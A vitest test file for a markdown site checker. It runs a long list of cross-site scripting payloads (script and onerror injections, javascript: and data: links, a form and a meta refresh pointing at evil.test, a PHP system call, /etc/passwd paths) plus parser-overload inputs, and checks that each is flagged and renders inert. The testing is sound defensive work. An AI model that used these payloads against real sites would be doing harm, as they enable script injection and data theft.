import { expect, test } from 'vitest';
import { z } from 'zod';
import { gatherFacts } from '../../../scripts/content/check/gatherFacts.ts';
import { checkBodies } from '../../../scripts/content/check/site/checkBodies.ts';
import { bodyRenderer } from '../../../scripts/content/emit/renderBody.ts';
import { createReport } from '../../../scripts/content/model/diagnostic.ts';
import { typicalValues } from '../../../scripts/content/model/placeholders.ts';
import { parseMarkdown } from '../../../scripts/content/source/markdown.ts';
import { elementsIn } from '../../html/elements.ts';
import { dangersIn } from './inertHtml.ts';

const targets = {
  pages: new Map([['/', {}]]),
  moved: new Map<string, string>(),
  today: '2025-06-15',
  ownHost: undefined,
  httpHosts: new Set<string>(),
  phones: [],
};

/** The findings in a text, as `line rule`. */
function findingsIn(text: string): string[] {
  const facts = gatherFacts('content/posts/a.md', `---\n---\n${text}\n`, z.unknown());
  const model = { pictures: new Set(['a.jpg']), downloads: new Set(['a.pdf']) };
  const { diagnostics } = createReport([
    ...facts.diagnostics,
    ...checkBodies({ facts: new Map([['posts/a.md', facts]]), model, targets }),
  ]);
  return diagnostics.map(({ line, rule, message, help }) => {
    expect(`${message} ${help}`).not.toMatch(/undefined|Error|\n\s+at /);
    return `${line} ${rule}`;
  });
}

const render = (text: string) =>
  bodyRenderer({
    folder: 'posts',
    pictures: new Map(),
    values: typicalValues,
    base: '/',
    away: new Set(),
  })(parseMarkdown(text));

const picture = '3 missing-picture';
const scheme = '3 link-scheme';
const html = '3 no-html';

/** A text, and the findings in it; none if it is plain text. */
const attacks: readonly [text: string, ...findings: string[]][] = [
  ['<script>alert(1)</script>', html],
  ['<ScRiPt src=//evil.test/x.js></ScRiPt>', html],
  ['a <script>alert(1)</script> b', html],
  ['<img src=x onerror=alert(1)>', html],
  ['a <img src=x onerror=alert(1)> b', html],
  ['<svg/onload=alert(1)>'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', html],
  ['<a href="javascript:alert(1)">a</a>', html],
  ['<style>body{display:none}</style>', html],
  ['<form action=//evil.test><input name=a></form>', html],
  ['<meta http-equiv=refresh content="0;url=//evil.test">', html],
  ['<base href=//evil.test>', html],
  ['<!-- a --> <script>alert(1)</script>', html],
  ['<!--><script>alert(1)</script>-->', html],
  ['<!-- a comment -->', '2 empty-text'],
  ['a <!-- comment -->'],
  ['[a]: /', '2 empty-text'],
  ['a hy\u00adphen', '3 hidden-sign'],
  ['<?php system("id") ?>', html],
  ['<![CDATA[<script>alert(1)</script>]]>', html],
  ['<!DOCTYPE html>', html],
  ['&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['`<script>alert(1)</script>`'],
  ['    <script>alert(1)</script>'],
  ['```\n<script>alert(1)</script>\n```'],
  ['```"><script>alert(1)</script>\na\n```'],
  ['\\<script>alert(1)\\</script>'],
  ['[a](javascript:alert(1))', scheme],
  ['[a](JaVaScRiPt:alert(1))', scheme],
  ['[a](<java\tscript:alert(1)>)', scheme],
  ['[a](&#106;avascript:alert(1))', scheme],
  ['[a](javascript&colon;alert(1))', scheme],
  ['[a](&#x01;javascript:alert(1))', '3 relative-link'],
  ['[a](\\javascript:alert(1))', '3 relative-link'],
  ['[a](data:text/html;base64,PHNjcmlwdD4=)', scheme],
  ['[a](vbscript:msgbox(1))', scheme],
  ['[a](file:///etc/passwd)', scheme],
  ['[a](blob:https://evil.test/1)', scheme],
  ['[a](//evil.test/a)', '3 unknown-page'],
  ['[a](/\\evil.test/a)', '3 unknown-page'],
  ['[a](https://example.org/"onmouseover="alert(1))'],
  ['[a](https://example.org "\\" onmouseover=alert(1) x=\\"")'],
  ['<javascript:alert(1)>', scheme],
  ['<https://example.org/?a="><script>alert(1)</script>>', html],
  ['[a][b]\n\n[b]: javascript:alert(1)', '5 link-scheme'],
  ['[a]\n\n[a]: <data:text/html,x>', '5 link-scheme'],
  ['a[^1]\n\n[^1]: javascript:alert(1)', '3 stray-signs', '5 stray-signs'],
  ['[here][b]\n\n[b]: /', '3 link-text'],
  ['![a](javascript:alert(1))', picture],
  ['![a](data:image/svg+xml,<svg/onload=alert(1)>)', picture],
  ['![a](https://evil.test/pixel.png)', picture],
  ['![a](../../../../etc/passwd)', picture],
  ['![a](..\\images\\a.jpg)', picture],
  ['![a](/etc/passwd)', picture],
  ['![a][b]\n\n[b]: https://evil.test/pixel.png', picture],
  ['![a"onerror="alert(1)](../images/a.jpg)'],
  ['## <img src=x onerror=alert(1)>', html],
  ['## "onmouseover="alert(1)'],
  [`${'['.repeat(2000)}a${'](/)'.repeat(2000)}`, '3 half-link'],
  [`${'> '.repeat(500)}a`, '3 text-depth'],
  [`${'*a **b '.repeat(2000)}`, '3 stray-signs'],
  [`${'`'.repeat(3000)}a`, '3 open-fence'],
  [`${'{'.repeat(20_000)}a`],
  [`${'24/7 '.repeat(50_000)}a`],
  [`${'a ** b `c` '.repeat(2000)}`, '3 stray-signs'],
  [`${'• a\n'.repeat(2000)}`, '3 pretend-list'],
  [':::fact[<script>alert(1)</script>]\na\n:::', '3 block-label', html],
  [':::do[<img src=x onerror=alert(1)>]\n- a\n:::', '3 block-label', html],
  [':::fact[a]{onclick=alert(1) style=color:red}\na\n:::', '3 block-line'],
  [':::script\nalert(1)\n:::', '3 unknown-block'],
  [':::iframe{src=//evil.test}\na\n:::', '3 unknown-block', '3 block-line'],
  [':::__proto__\na\n:::', '3 block-line'],
  [':::constructor\na\n:::', '3 unknown-block'],
  [':::question["onmouseover="alert(1)]\n<b onclick=alert(1)>a</b>\n:::', '4 no-html'],
  [':::call[a]\n[b](javascript:alert(1))\n:::', '4 link-scheme'],
  [
    ':::video\n[a](javascript:alert(1)//youtu.be/M7lc1UVf-VE)\n:::',
    '4 link-scheme',
    '4 video-address',
  ],
  [':::video\n[a](https://evil.test/"onload="alert(1))\n:::', '4 video-address'],
  [':::video\n[a](https://youtu.be@evil.test/M7lc1UVf-VE)\n:::', '4 video-address'],
  [':::download\n[a](javascript:alert(1).pdf)\n:::', '3 block-content', '4 link-scheme'],
  [`${':::'.repeat(3000)}`, '3 block-line'],
];

const named = attacks.map(([text, ...expected]) => [text.slice(0, 60), text, expected] as const);

test.each(named)('%s', (_name, text, expected) => {
  expect(findingsIn(text)).toEqual(expected);
  expect(dangersIn(render(text)), 'rendered all the same, it does nothing').toEqual([]);
});

test.each([
  ['quotations', 3, '> '.repeat(3000)],
  ['hyphens', 5, `a\n\n${'-'.repeat(100_000)} a`],
  ['stars that end nothing', 3, '*a_ '.repeat(20_000)],
  ['blocks', 303, ':::do[a]\n'.repeat(5000)],
  ['paragraphs', 10_003, 'a\n\n'.repeat(50_000)],
  ['empty lines', 10_003, '\n'.repeat(100_000)],
  ['entries of a list', 10_003, '- a\n'.repeat(50_000)],
  ['rulers', 4003, '***\n\n'.repeat(50_000)],
  ['bold words', 3, '**a** '.repeat(40_000)],
  ['signs', 3, '&amp; '.repeat(40_000)],
  ['backslashes', 3, '\\'.repeat(200_000)],
  ['tabs', 3, 'a\tb '.repeat(50_000)],
  ['bare addresses', 3, 'https://example.org '.repeat(12_000)],
  ['mail addresses', 3, 'a@b.co '.repeat(30_000)],
  ['closing brackets', 3, ']'.repeat(100_000)],
  ['quotations apart from one another', 2004, '> > a\n\n'.repeat(4000)],
  ['comments that do not end', 3, 'a <!-- '.repeat(9000)],
  ['stars in stars', 3, `${'*'.repeat(2500)}a${'*'.repeat(2500)}`],
  ['HTML', 3, '<b>'.repeat(100_000)],
  ['links', 3, '[a](/contact) '.repeat(20_000)],
  ['links in links', 3, '[a'.repeat(20_000) + '](/contact)'.repeat(20_000)],
  ['pictures', 3, '![a](../images/a.jpg)\n'.repeat(25_000)],
  ['headings', 5003, '## A\n\n'.repeat(25_000)],
  ['rows of a table', 2503, `| a | b |\n|---|---|\n${'| a | b |\n'.repeat(100_000)}`],
  ['columns of a table', 3, `|${' a |'.repeat(20_000)}\n|${'---|'.repeat(20_000)}\n`],
])('what would take minutes to parse is refused: %s', (_name, line, text) => {
  expect(findingsIn(text)).toEqual([`${line} text-overload`]);
});

test('what browsers would execute is recognized', () => {
  const html = '<p onclick=a style=b><a href="javascript:a">a</a><script>a</script></p>';
  expect(dangersIn(html)).toEqual(['onClick=', 'style=', 'href=javascript:a', '<script>']);
});

test('a link finds its page under a base path, however it is written', () => {
  const options = {
    folder: 'posts',
    pictures: new Map(),
    values: typicalValues,
    base: '/site/',
    away: new Set<string>(),
  };
  for (const text of ['[a](/contact)', '[a][b]\n\n[b]: /contact', '[a]\n\n[a]: /contact']) {
    const [link] = elementsIn(bodyRenderer(options)(parseMarkdown(text)), 'a');
    expect(link?.attributes.href, text).toBe('/site/contact');
  }
});
